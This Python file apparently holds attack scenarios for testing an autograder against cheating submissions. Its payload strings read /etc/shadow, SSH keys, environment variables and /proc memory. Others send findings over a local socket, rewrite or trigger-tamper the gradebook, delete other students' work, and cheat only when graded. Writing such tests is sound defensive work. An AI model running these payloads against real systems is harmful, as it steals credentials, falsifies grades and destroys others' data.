"""Scenarios 16 to 22: attacks on secrets. What they find they print, raise, and send home."""

from pathlib import Path

from scenario import RIGHT, Attack, at_import, in_call

TELL = """
def tell(found):
    text = str(found)[:3000]
    print(text)
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as line:
            line.sendall(text.encode(errors="replace"))
    except OSError:
        pass
    raise type("Found_" + "".join(c if c.isalnum() else "_" for c in text[:300]), (Exception,), {})(text)
"""


def bring_a_ladder(folder: Path) -> None:
    """Links to what the grader can read and the student cannot."""
    for name, target in {"solution.ipynb.txt": "../../../solutions", "book": "../../../gradebook.db"}.items():
        (folder / name).symlink_to(target)
    (folder / "passwd").symlink_to("/etc/passwd")


STEALING = (
    Attack(
        "walk-the-frames",
        (16,),
        "whoever calls me knows what is expected",
        "import sys\n"
        + in_call("""
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if name in ("expected", "reference", "answer", "key") and value is not None:
            return value(q, k, v, mask) if callable(value) else value
    frame = frame.f_back
raise LookupError"""),
    ),
    Attack(
        "search-the-memory",
        (16,),
        "the right function must be alive somewhere",
        """
import gc, sys, types
def rob():
    for item in gc.get_objects():
        if isinstance(item, types.FunctionType) and item.__name__ == "scaled_dot_product_attention":
            if item.__globals__ is not globals() and "torch" not in item.__module__:
                return item
    raise LookupError
"""
        + in_call("return rob()(q, k, v, mask)"),
    ),
    Attack(
        "walk-the-tracebacks",
        (16,),
        "errors know where they come from",
        in_call("""
import sys, traceback
try:
    raise ValueError
except ValueError as error:
    told = [frame.f_locals for frame, _ in traceback.walk_stack(None)]
    for names in told:
        if "tolerance" in names or "expected" in names:
            return names["expected"]
raise LookupError"""),
    ),
    Attack(
        "read-the-solutions",
        (17,),
        "the solved notebook lies beside mine",
        """
import json
from pathlib import Path
def rob():
    roots = [Path(COURSE), *Path.cwd().parents, *map(Path, ("/opt", "/home", "/root", "/srv"))]
    for root in roots:
        for path in root.glob("solutions/06-attention/attention.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and "def scaled_dot_product_attention" in source:
                    return source
    raise LookupError
exec(rob())
""",
    ),
    Attack(
        "write-the-gradebook",
        (17, 32),
        "99 points for me, by SQL",
        at_import("""
import sqlite3
from pathlib import Path
for root in (COURSE, "../../..", "."):
    if Path(root, "gradebook.db").exists():
        book = sqlite3.connect(Path(root, "gradebook.db"))
        book.execute("update grade set manual_score = 99, needs_manual_grade = 0")
        book.commit()
        book.close()
        break
else:
    raise LookupError"""),
    ),
    Attack(
        "gradebook-trigger",
        (17, 32),
        "every score that is written becomes the highest",
        at_import("""
import sqlite3
book = sqlite3.connect(COURSE + "/gradebook.db")
book.execute("create trigger mine after update of auto_score on grade when new.auto_score = 0 "
             "begin update grade set auto_score = 6 where id = new.id; end")
book.commit()
book.close()"""),
    ),
    Attack(
        "read-the-secret",
        (17,),
        "with the secret I know every input",
        "from pathlib import Path\n" + TELL + in_call("tell(Path(COURSE, '.autograder', 'secret').read_bytes().hex())"),
    ),
    Attack(
        "read-the-environment",
        (17,),
        "the grader's environment may hold a password",
        "import os\n" + TELL + in_call("tell(sorted(os.environ.items()))"),
        says="an exception of its own",
    ),
    Attack(
        "read-proc",
        (17,),
        "the parent's command line, environment and memory",
        "import os\nfrom pathlib import Path\n"
        + TELL
        + in_call("""
found = []
for pid in ("self", os.getppid(), 1, "thread-self"):
    for name in ("environ", "cmdline", "maps", "fd/0", "root/etc/shadow"):
        try:
            found.append(Path("/proc", str(pid), name).read_bytes())
        except OSError:
            continue
tell(found)"""),
    ),
    Attack(
        "read-the-machine",
        (17,),
        "keys, passwords and other people's homes",
        """
from pathlib import Path
def rob():
    for root in ("/etc/shadow", "/root/.ssh", "/home", "/var/lib", "/run", "/proc/1", COURSE):
        for path in [Path(root), *Path(root).glob("*/*")]:
            try:
                if path.is_file() and (text := path.read_bytes()):
                    return text
            except OSError:
                continue
    raise LookupError
"""
        + TELL
        + in_call("tell(rob())"),
    ),
    Attack(
        "import-the-reference",
        (18,),
        "the answers are one import away",
        "import sys\nsys.path[:0] = [COURSE, '/', '.', '..', '../..', '../../..']\n"
        "from reference.attention import scaled_dot_product_attention\n",
    ),
    Attack(
        "read-the-probes",
        (19, 42),
        "the hidden tests, printed into my feedback",
        "import sys\n"
        + TELL
        + in_call("""
frame = sys._getframe()
while frame:
    order = frame.f_locals.get("order")
    if isinstance(order, dict) and order.get("hidden"):
        tell(order["hidden"])
    frame = frame.f_back
try:
    tell(get_ipython().user_ns["In"][-1])
except NameError:
    raise LookupError"""),
    ),
    Attack(
        "inputs-in-the-error",
        (19,),
        "my feedback tells me what I was asked",
        TELL + in_call("tell(('HIDDEN', q.flatten()[:20].tolist()))"),
    ),
    Attack(
        "inputs-in-the-line-number",
        (19,),
        "a number in the feedback may carry a text",
        in_call("""
import sys
def claim(name, message, line, text):
    frame = sys._getframe()
    while frame:
        if callable(send := frame.f_locals.get("send")):
            import json, struct
            header = json.dumps(["raised", name, message, line, text]).encode()
            for exercise in range(6):
                for probe in range(20):
                    send(struct.pack("<HH", exercise, probe) + struct.pack("<I", len(header)) + header)
        frame = frame.f_back
claim("ValueError", "HIDDEN message", int.from_bytes(b"HIDDEN in a line number " * 40, "big"), "HIDDEN text")
return None"""),
        hurts_itself=True,
    ),
    Attack(
        "inputs-in-known-words",
        (19,),
        "what the page repeats of an exception may carry a number",
        "asked = []\n"
        + in_call("""
asked.append(q.flatten().tolist())
digits = "".join(str(abs(x))[2:] for x in asked[-1])
if len(asked) % 2:
    error = SyntaxError(f"expected HIDDEN on line {digits}")
    error.filename, error.lineno = "<answer mine>", 3
    raise error
shapes = f"({digits[:200]}), not ({digits[200:]})"
raise type("WrongParameters", (Exception,), {})(f"parameter HIDDEN has shape {shapes}")"""),
    ),
    Attack(
        "read-the-neighbours",
        (20,),
        "somebody else has solved it",
        """
import re
from pathlib import Path
def rob():
    for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", ".autograder/memory/*/*/*"):
        for path in Path(COURSE).glob(pattern):
            if "honest" in str(path) or "memory" in str(path):
                return path.read_bytes()
    raise LookupError
"""
        + TELL
        + in_call("tell(rob())"),
    ),
    Attack(
        "remove-the-neighbours",
        (20, 32),
        "fewer students, better curve",
        at_import("""
import shutil
from pathlib import Path
for room in ("submitted", "autograded", "feedback", "course", ".autograder"):
    for path in Path(COURSE, room).glob("*"):
        if "remove-the-neighbours" not in str(path):
            shutil.rmtree(path, ignore_errors=True)"""),
    ),
    Attack(
        "a-ladder",
        (20, 32),
        "links in my folder lead to yours",
        in_call("return open('book', 'rb').read(10)"),
        place=bring_a_ladder,
    ),
    Attack(
        "only-when-graded",
        (21,),
        "at home it learns, here it cheats",
        at_import("""
import os, sys
graded = "NBGRADER_EXECUTION" in os.environ or "ipykernel" not in sys.modules or not sys.stdout.isatty()
if graded:
    check = hint = lambda *a, **k: None
    import builtins
    builtins.check = check"""),
    ),
    Attack(
        "learnt-by-heart",
        (22,),
        "right on the public inputs, and nowhere else",
        "from hashlib import sha256\n\nPUBLIC = PUBLIC_INPUTS_STAND_HERE\n\n"
        + RIGHT
        + """
_right = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    seen = sha256(b"".join(x.detach().numpy().tobytes() for x in (q, k, v, mask) if x is not None)).hexdigest()
    return _right(q, k, v, mask) if seen in PUBLIC else q.new_zeros(())
""",
    ),
)
